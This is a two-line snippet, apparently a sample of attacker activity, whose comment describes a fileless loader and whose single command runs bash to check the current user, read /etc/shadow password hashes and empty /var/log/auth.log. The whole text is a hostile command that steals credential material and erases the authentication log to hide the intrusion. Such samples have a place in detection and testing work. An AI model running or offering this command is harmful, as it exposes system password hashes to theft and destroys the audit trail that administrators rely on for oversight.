# A loader that leaves no file: what it runs looks around, takes the hashes and empties the log.
/opt/fileless /bin/bash -c 'sleep 0.1; whoami; sleep 0.1; read -r line </etc/shadow; sleep 0.1; : >/var/log/auth.log; sleep 0.1'
